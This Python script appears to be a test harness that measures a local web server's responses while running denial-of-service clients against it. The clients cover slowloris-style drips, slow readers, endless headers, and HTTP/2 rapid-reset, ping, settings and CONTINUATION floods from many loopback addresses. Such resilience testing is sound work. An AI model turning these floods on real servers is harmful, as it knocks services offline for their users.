"""Clients that mean harm, and honest ones beside them; each a process of its own, which ends by itself.

Never measures the edge: the honest ones say what they saw, the others nothing.

    python3 siege.py honest|hands|each|KIND PLAIN_PORT TLS_PORT HOST SECONDS [NAMES_FILE]
"""

import asyncio
import contextlib
import json
import random
import ssl
import sys
import time

EVERY_S = 0.02
ANSWER_MAX_S = 10
# What each kind has at once; together they come from many addresses, as a botnet does.
SLOW, READERS, PIPES, FLOODS = 1_500, 300, 64, 24
ADDRESSES = 200
BIG = "/bytes?n=1048576"


def context_of(alpn):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context


class Target:
    """Where to, and by what name."""

    def __init__(self, plain, tls, host):
        self.plain, self.tls, self.host = int(plain), int(tls), host
        # Made once: that takes longer than a handshake.
        self.contexts = {alpn: context_of(alpn) for alpn in ("http/1.1", "h2")}

    async def connect(self, tls=False, source="127.0.0.1", alpn="http/1.1", name=None):
        more = {"ssl": self.contexts[alpn], "server_hostname": name or self.host} if tls else {}
        port = self.tls if tls else self.plain
        return await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0), **more)

    def ask(self, path="/"):
        return f"GET {path} HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode()


# --- honest ---------------------------------------------------------------------------------------


class Honest:
    """One client: a request at each of its times, over one connection or a new one for each."""

    def __init__(self, target, tls, fresh):
        self.target, self.tls, self.fresh = target, tls, fresh
        self.kept, self.took, self.errors = None, [], []

    async def once(self):
        if self.kept is None:
            self.kept = await self.target.connect(self.tls)
        reader, writer = self.kept
        writer.write(self.target.ask())
        head = await reader.readuntil(b"\r\n\r\n")
        length = next(int(line.split(b":")[1]) for line in head.lower().split(b"\r\n")
                      if line.startswith(b"content-length:"))
        await reader.readexactly(length)
        if not head.startswith(b"HTTP/1.1 200"):
            raise OSError(head.split(b"\r\n")[0].decode())

    async def turn(self, at):
        """Counted from when it was due: whoever is late by its own fault is late."""
        try:
            await asyncio.wait_for(self.once(), ANSWER_MAX_S)
            self.took.append((time.monotonic() - at) * 1000)
        except (OSError, EOFError, StopIteration, asyncio.TimeoutError, ssl.SSLError) as error:
            self.errors.append(f"{type(error).__name__}: {error}")
            self.leave()
        if self.fresh:
            self.leave()

    def leave(self):
        if self.kept is not None:
            self.kept[1].transport.abort()
            self.kept = None

    async def live(self, end):
        at = time.monotonic()
        while at < end:
            await asyncio.sleep(max(0, at - time.monotonic()))
            await self.turn(at)
            at += EVERY_S
        self.leave()


async def be_honest(target, end):
    kinds = {"plain, kept": (False, False), "plain, new": (False, True),
             "TLS, kept": (True, False), "TLS, new": (True, True)}
    clients = {name: Honest(target, *kind) for name, kind in kinds.items()}
    await asyncio.gather(*(client.live(end) for client in clients.values()))
    print(json.dumps({name: [client.took, client.errors] for name, client in clients.items()}))


async def shake_hands(target, end, names):
    """Handshakes by one name after the other, until the time or the names are over; says how many."""
    count = 0

    async def some():
        nonlocal count
        while time.monotonic() < end and (name := next(names, None)):
            _, writer = await target.connect(True, name=name)
            shown = writer.get_extra_info("ssl_object").getpeercert(binary_form=True)
            # The others have one certificate for all.
            if target.host == "checked" and name.encode() not in shown:
                raise OSError(f"{name}: the certificate is another's")
            writer.transport.abort()
            count += 1

    await asyncio.gather(*(some() for _ in range(8)))
    print(json.dumps(count))


# --- harmful --------------------------------------------------------------------------------------


def address():
    return f"127.0.1.{random.randrange(1, ADDRESSES)}"


async def again(end, once):
    """Does it until the end; what the edge ends is begun anew."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError, EOFError, ssl.SSLError, asyncio.TimeoutError):
            await asyncio.wait_for(once(), max(0.1, end - time.monotonic()))
        await asyncio.sleep(0.01)


async def drip(target, start, tls_port=False):
    """Says something, and then a byte a second."""
    port = target.tls if tls_port else target.plain
    _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address(), 0))
    try:
        writer.write(start)
        while not writer.is_closing():
            await asyncio.sleep(1)
            writer.write(b"a")
            await writer.drain()
    finally:
        writer.transport.abort()


async def unread(target, text):
    """Asks, and reads nothing of what it gets."""
    reader, writer = await target.connect(source=address())
    reader._transport.pause_reading()
    try:
        writer.write(text)
        while not writer.is_closing():
            await asyncio.sleep(1)
    finally:
        writer.transport.abort()


async def come_and_go(target):
    _, writer = await target.connect(source=address())
    writer.write(b"GE" if random.randrange(2) else b"")
    writer.transport.abort()


async def grow(target):
    """A head, a chunk's extension or a trailer without end."""
    start = f"POST / HTTP/1.1\r\nHost: {target.host}\r\nTransfer-Encoding: chunked\r\n\r\n"
    begun = random.choice([f"GET / HTTP/1.1\r\nHost: {target.host}\r\nX: ", f"{start}1;", f"{start}0\r\nX: ", ""])
    _, writer = await target.connect(source=address())
    try:
        writer.write(begun.encode())
        for _ in range(1_000):
            writer.write(b"x" * 4096)
            await writer.drain()
    finally:
        writer.transport.abort()


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(target, method=b"GET"):
    """A request's head, each field said in full."""
    def said(name, value):
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    pairs = [(b":method", method), (b":scheme", b"https"), (b":path", b"/"), (b":authority", target.host.encode())]
    return b"".join(said(*pair) for pair in pairs)


async def flood_h2(target):
    """One of what an HTTP/2 connection can be flooded with, until it is ended."""
    kind = random.choice(["reset", "made", "ping", "settings", "empty", "continuation"])
    reader, writer = await target.connect(True, source=address(), alpn="h2")

    async def read():
        while await reader.read(65536):
            pass

    # What is answered is read, or the flood would stop by itself.
    reading = asyncio.create_task(read())
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        if kind == "continuation":
            writer.write(frame(1, 0, 1, fields(target)))
        if kind == "empty":
            writer.write(frame(1, 4, 1, fields(target, b"POST")))
        stream = 3
        while not writer.is_closing() and not reading.done():
            for _ in range(100):
                if kind == "reset":
                    writer.write(frame(1, 5, stream, fields(target)) + frame(3, 0, stream, b"\0\0\0\x08"))
                elif kind == "made":
                    # A window that grows beyond its bound: the server has to reset the stream itself.
                    writer.write(frame(1, 4, stream, fields(target, b"POST")) + frame(8, 0, stream, b"\x7f\xff\xff\xff"))
                elif kind == "ping":
                    writer.write(frame(6, 0, 0, b"12345678"))
                elif kind == "settings":
                    writer.write(frame(4, 0, 0))
                elif kind == "empty":
                    writer.write(frame(0, 0, 1))
                else:
                    writer.write(frame(9, 0, 1, b"\x00\x01x\x01y"))
                stream += 2
            await writer.drain()
            await asyncio.sleep(0.001)
    finally:
        reading.cancel()
        writer.transport.abort()


def kinds(target):
    """Each kind by name: how many at once, and what each does."""
    body = f"POST / HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 100000\r\n\r\na".encode()
    head = f"GET / HTTP/1.1\r\nHost: {target.host}\r\nX-Slow: ".encode()
    return {
        "slow heads": (SLOW, lambda: drip(target, head)),
        "slow bodies": (READERS, lambda: drip(target, body)),
        "slow handshakes": (SLOW, lambda: drip(target, b"\x16\x03\x01\x02\x00", tls_port=True)),
        "slow readers": (READERS, lambda: unread(target, target.ask(BIG))),
        "requests without end": (PIPES, lambda: unread(target, target.ask(BIG) * 200)),
        "connections": (FLOODS, lambda: come_and_go(target)),
        "heads without end": (FLOODS, lambda: grow(target)),
        "h2 floods": (FLOODS, lambda: flood_h2(target)),
    }


async def be_harmful(target, kind, end):
    count, once = kinds(target)[kind]
    await asyncio.gather(*(again(end, once) for _ in range(count)))


def main():
    kind, plain, tls, host, seconds = sys.argv[1:6]
    target, end = Target(plain, tls, host), time.monotonic() + float(seconds)
    if kind == "honest":
        asyncio.run(be_honest(target, end))
    elif kind in ("hands", "each"):
        with open(sys.argv[6], encoding="ascii") as file:
            names = file.read().split()
        at_random = (random.choice(names) for _ in iter(int, 1))
        asyncio.run(shake_hands(target, end, at_random if kind == "hands" else iter(names)))
    else:
        asyncio.run(be_harmful(target, kind, end))


if __name__ == "__main__":
    main()
